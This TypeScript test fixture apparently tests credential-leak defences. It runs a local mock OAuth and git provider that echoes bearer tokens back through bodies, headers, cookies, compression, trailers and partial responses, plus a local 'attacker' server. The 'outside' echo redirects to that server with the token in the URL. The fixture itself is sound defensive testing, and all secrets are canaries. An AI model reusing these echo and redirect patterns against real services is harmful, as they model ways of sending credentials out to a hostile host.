// A third party whose API repeats the credential in every way it can, and a server of an attacker.
import { execFileSync, spawn } from 'node:child_process'
import { once } from 'node:events'
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib'
import { temporaryFolder } from '../../support/processes/stores.ts'

export const secrets = {
  clientSecret: 'CANARY-client-secret-9f2',
  refreshToken: 'CANARY-refresh-token-7c1',
  token: (count: number) => `CANARY-Access/Token-${count}-hUsHhUsH`,
}

export const gitUser = 'x-access-token'

type Echo = (credential: string, req: IncomingMessage, res: ServerResponse, attacker: string) => void

const half = (text: string) => text.slice(0, Math.ceil(text.length * 0.7))

/** Everything but the credential is the same as in an ordinary response. */
export const echoes: Record<string, Echo> = {
  body: (credential, _req, res) => res.end(JSON.stringify({ credential })),
  escaped: (credential, _req, res) => res.end(JSON.stringify({ credential }).replaceAll('/', '\\/')),
  encoded: (credential, _req, res) => res.end(encodeURIComponent(credential)),
  error: (credential, _req, res) => res.writeHead(500).end(`cannot use ${credential}`),
  header: (credential, _req, res) => res.writeHead(200, { 'X-Echo': credential }).end('{}'),
  name: (credential, _req, res) => res.writeHead(200, { [credential.replace(/[ /]/g, '')]: '1' }).end('{}'),
  cookie: (credential, _req, res) => res.writeHead(200, { 'Set-Cookie': `c=${credential}` }).end('{}'),
  gzip: (credential, _req, res) => res.writeHead(200, { 'Content-Encoding': 'gzip' }).end(gzipSync(credential)),
  br: (credential, _req, res) => res.writeHead(200, { 'Content-Encoding': 'br' }).end(brotliCompressSync(credential)),
  deflate: (credential, _req, res) =>
    res.writeHead(200, { 'Content-Encoding': 'deflate' }).end(deflateSync(credential)),
  twice: (credential, _req, res) =>
    res.writeHead(200, { 'Content-Encoding': 'gzip, gzip' }).end(gzipSync(gzipSync(credential))),
  transfer: (credential, _req, res) =>
    res.writeHead(200, { 'Transfer-Encoding': 'gzip, chunked' }).end(gzipSync(credential)),
  slowly(credential, _req, res) {
    const letters = [...credential]
    const next = () => {
      const letter = letters.shift()
      if (letter === undefined) return void res.end()
      res.write(letter)
      setImmediate(next)
    }
    next()
  },
  range(credential, req, res) {
    const [, from, to] = /^bytes=(\d+)-(\d+)$/.exec(req.headers.range ?? '') ?? []
    if (from === undefined) return void res.end(credential)
    res.writeHead(206).end(credential.slice(Number(from), Number(to) + 1))
  },
  brokenOff(credential, req, res) {
    res.writeHead(200, { 'Content-Length': '1000' })
    res.write(half(credential), () => setTimeout(() => req.socket.destroy(), 50))
  },
  half: (credential, _req, res) => res.end(half(credential)),
  charset: (credential, req, res) =>
    res.end(req.headers['accept-charset'] ? Buffer.from(credential, 'utf16le') : credential),
  trailer(credential, _req, res) {
    res.writeHead(200, { Trailer: 'X-Echo', 'Transfer-Encoding': 'chunked' })
    res.addTrailers({ 'X-Echo': credential })
    res.end('{}')
  },
  reason: (credential, _req, res) => res.writeHead(200, credential).end('{}'),
  early(credential, _req, res) {
    res.writeEarlyHints({ link: '</a>; rel=preload', 'x-echo': credential })
    res.end('{}')
  },
  inside: (credential, req, res) =>
    res.writeHead(302, { Location: `http://${req.headers.host}/echo/body?t=${encodeURIComponent(credential)}` }).end(),
  outside: (credential, _req, res, attacker) =>
    res.writeHead(302, { Location: `https://${attacker}/?t=${encodeURIComponent(credential)}` }).end(),
}

export async function hostileProvider() {
  const repositories = temporaryFolder()
  const state = { token: '', tokens: 0, seen: [] as Array<{ url: string; authorization: string | undefined }> }
  const reached: string[] = []
  const attacker = createServer((req, res) => {
    reached.push(`${req.method} ${req.url} ${JSON.stringify(req.headers)}`)
    res.end('attacker')
  }).listen(0, '127.0.0.1')
  await once(attacker, 'listening')
  const attackerHost = `127.0.0.1:${(attacker.address() as AddressInfo).port}`
  const server = createServer((req, res) => {
    const { authorization } = req.headers
    const url = req.url ?? ''
    state.seen.push({ url, authorization })
    if (url === '/token') return issue(req, res)
    const basic = `Basic ${btoa(`${gitUser}:${state.token}`)}`
    if (url.startsWith('/git/')) return authorization === basic ? serveGit(repositories, req, res) : deny(res)
    if (url.startsWith('/echoing/')) return void res.end(authorization)
    if (authorization !== `Bearer ${state.token}`) return deny(res)
    const echo = echoes[/^\/echo\/(\w+)/.exec(url)?.[1] ?? '']
    if (echo) return echo(authorization, req, res, attackerHost)
    res.setHeader('Content-Type', 'application/json')
    res.end(JSON.stringify({ data: [{ id: 'one', object: 'model' }], object: 'list' }))
  }).listen(0, '127.0.0.1')
  await once(server, 'listening')
  const issue = (req: IncomingMessage, res: ServerResponse) => {
    let form = ''
    req.on('data', (chunk) => {
      form += chunk
    })
    req.on('end', () => {
      if (new URLSearchParams(form).get('refresh_token') !== secrets.refreshToken) {
        return void res.writeHead(400, { 'Content-Type': 'application/json' }).end('{"error":"invalid_grant"}')
      }
      state.token = secrets.token(++state.tokens)
      res.setHeader('Content-Type', 'application/json')
      res.end(JSON.stringify({ access_token: state.token, token_type: 'Bearer', expires_in: 3600 }))
    })
  }
  const host = `127.0.0.1:${(server.address() as AddressInfo).port}`
  return {
    host,
    attackerHost,
    state,
    reached,
    repository: (name: string) => newRepository(join(repositories, name)),
    integration: {
      id: 'code-host',
      displayName: 'Code host',
      endpoints: { authorization: `http://${host}/authorize`, token: `http://${host}/token` },
      account: { from: 'none' },
      scopes: [{ name: 'code' }],
      apiHosts: [host],
      gitHosts: [{ host, username: gitUser }],
      api: { headers: { Accept: 'application/json' } },
      tools: [],
    },
    close() {
      for (const each of [server, attacker]) each.close().closeAllConnections()
    },
  }
}

function deny(res: ServerResponse): void {
  res.writeHead(401, { 'WWW-Authenticate': 'Basic realm="git"' }).end('{"error":"token"}')
}

function newRepository(path: string): void {
  const git = (...args: string[]) => execFileSync('git', args, { stdio: 'ignore' })
  git('init', '--bare', '--initial-branch=main', path)
  git('-C', path, 'config', 'http.receivepack', 'true')
}

/** CGI (RFC 3875) in front of Git's own server program. */
function serveGit(repositories: string, req: IncomingMessage, res: ServerResponse): void {
  const [pathname = '', query = ''] = (req.url ?? '').split('?')
  const cgi = spawn('git', ['http-backend'], {
    env: {
      ...process.env,
      GIT_PROJECT_ROOT: repositories,
      GIT_HTTP_EXPORT_ALL: '1',
      PATH_INFO: pathname.slice('/git'.length),
      QUERY_STRING: query,
      REQUEST_METHOD: req.method ?? '',
      CONTENT_TYPE: req.headers['content-type'] ?? '',
      CONTENT_LENGTH: req.headers['content-length'] ?? '',
      HTTP_CONTENT_ENCODING: req.headers['content-encoding'] ?? '',
      GIT_PROTOCOL: String(req.headers['git-protocol'] ?? ''),
      REMOTE_USER: 'ada',
    },
    stdio: ['pipe', 'pipe', 'ignore'],
  })
  req.pipe(cgi.stdin)
  const chunks: Buffer[] = []
  cgi.stdout.on('data', (chunk: Buffer) => chunks.push(chunk))
  cgi.stdout.on('end', () => {
    const answer = Buffer.concat(chunks)
    const end = answer.indexOf('\r\n\r\n')
    const headers = answer
      .subarray(0, end)
      .toString()
      .split('\r\n')
      .map((line) => line.split(': ', 2) as [string, string])
    const status = headers.find(([name]) => name === 'Status')?.[1]
    res.writeHead(status ? Number.parseInt(status, 10) : 200, Object.fromEntries(headers))
    res.end(answer.subarray(end + 4))
  })
}
